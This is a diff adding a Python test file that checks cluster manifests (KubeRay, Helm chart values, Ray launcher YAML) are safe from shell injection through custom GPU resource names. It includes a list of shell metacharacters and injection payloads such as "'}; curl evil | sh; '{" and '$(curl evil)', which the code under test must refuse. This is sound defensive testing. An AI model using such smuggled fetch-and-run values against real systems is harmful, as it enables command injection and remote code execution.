@@ -1,0 +1,110 @@
+"""What a shell on the cluster reads of a written file says what the plan says, and nothing else is run."""
+
+import json
+import shlex
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.unit.planned_clusters import a_plan, gpu_type
+from tune_policies import InvalidResourcesError
+from tune_policies.manifests.shell import quoted, quoted_amounts
+from tune_policies.manifests.writing import WriteOptions, write_cluster
+
+HOSTILE = [
+    "'",
+    '"',
+    "\\",
+    "$(id)",
+    "$HOME",
+    "`id`",
+    "$$",
+    ";",
+    "&&",
+    "|",
+    "\n",
+    "\r",
+    "\u2028",
+    " ",
+    "\x00",
+    "#",
+    "*",
+    "!",
+]
+WORDS = ["gpu_type", "node:10.0.0.1", "a/b.c", "größe", "単位", "v1+2", "me@home", "--flag"]
+
+names = st.lists(st.sampled_from(HOSTILE + WORDS), min_size=1, max_size=4).map("".join) | st.text(min_size=1)
+FORMATS = [("kuberay", "2.60.0"), ("kuberay", "2.50.0"), ("kuberay-helm", "2.60.0"), ("cluster-yaml", "2.60.0")]
+
+
+def in_kuberays_shell(group):
+    """The resources in the command that KubeRay makes for ``bash -c``: it quotes those of a group's field alone."""
+    params = dict(group["rayStartParams"])
+    if "template" in group and "resources" in group:  # in values of the chart they are the container's
+        params["resources"] = "'" + json.dumps({name: int(at) for name, at in group["resources"].items()}) + "'"
+    command = "".join(f" --{option}={value} " for option, value in params.items())
+    assert "$" not in command  # which Kubernetes would replace before
+    (word,) = shlex.split(command, comments=True)
+    return json.loads(word.removeprefix("--resources="))
+
+
+def in_launchers_shell(node_type):
+    """The resources as Ray's launcher exports them, and passes them on to Docker without quotes."""
+    text = json.dumps(node_type["resources"], separators=(",", ":"), ensure_ascii=False)
+    assert text.split() == [text]
+    return {name: amount for name, amount in node_type["resources"].items() if name not in ("CPU", "GPU", "memory")}
+
+
+def amounts_in(text, form):
+    written = yaml.safe_load(text)
+    if form == "kuberay":
+        return in_kuberays_shell(written["spec"]["workerGroupSpecs"][0])
+    if form == "kuberay-helm":
+        return in_kuberays_shell(written["additionalWorkerGroups"]["l4"])
+    assert [shlex.split(command)[:2] for command in written["setup_commands"]] == [["pip", "install"]]
+    return in_launchers_shell(written["available_node_types"]["l4"])
+
+
+@pytest.mark.parametrize(("form", "version"), FORMATS)
+@given(name=names)
+def test_a_resource_has_its_name_behind_every_shell_or_is_refused(form, version, name):
+    try:
+        plan = a_plan(gpu_type(custom={name: 3}))
+        text = write_cluster(plan, WriteOptions(format=form, ray_version=version))
+    except InvalidResourcesError:
+        return
+
+    assert amounts_in(text, form) == {name: 3, "accelerator_type:L4": 1}
+
+
+@pytest.mark.parametrize(("form", "version"), FORMATS)
+@pytest.mark.parametrize(
+    "name", ["'}; curl evil | sh; '{", "$(curl evil)", "`id`", 'a"b', "a\\b", "a b", "a\nb", "a\udc80"]
+)
+def test_a_name_that_a_shell_would_read_is_refused(form, version, name):
+    plan = a_plan(gpu_type(custom={name: 1}))
+
+    with pytest.raises(InvalidResourcesError, match=r"cannot be written for a cluster.*: use letters, digits"):
+        write_cluster(plan, WriteOptions(format=form, ray_version=version))
+
+
+@pytest.mark.parametrize(("form", "version"), FORMATS)
+@pytest.mark.parametrize("name", WORDS)
+def test_usual_names_in_any_script_are_written(form, version, name):
+    text = write_cluster(a_plan(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))
+
+    assert amounts_in(text, form)[name] == 2
+
+
+@given(st.text())
+def test_what_is_quoted_is_one_word(text):
+    assert shlex.split(quoted(text)) == [text]
+
+
+@given(st.dictionaries(st.text(), st.integers(0, 10**9)))
+def test_quoted_amounts_are_the_amounts(amounts):
+    (word,) = shlex.split(quoted_amounts(amounts))
+
+    assert json.loads(word) == amounts
